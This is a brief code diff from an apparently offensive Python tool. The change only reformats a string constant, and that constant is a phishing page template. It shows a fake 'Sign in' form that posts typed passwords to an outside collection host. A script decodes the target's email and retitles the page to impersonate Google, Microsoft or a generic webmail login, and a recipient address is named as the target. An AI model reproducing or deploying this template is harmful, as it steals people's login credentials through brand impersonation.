@@ -17,7 +17,8 @@ from unhook.pages.probe import probe as probing
 RECIPIENT = "anna.berg@harbour.example"
 ADAPTS = (
     "<title>Sign in</title><form method=post action=https://collect.example.net/p>"
-    "<input type=password name=p></form><script>const d=atob('{}').split('@')[1];document.title='Sign in to '+({{'gmail.com':'Google',"
+    "<input type=password name=p></form>"
+    "<script>const d=atob('{}').split('@')[1];document.title='Sign in to '+({{'gmail.com':'Google',"
     "'outlook.com':'Microsoft'}}[d]||'Webmail')</script>"
 )
 
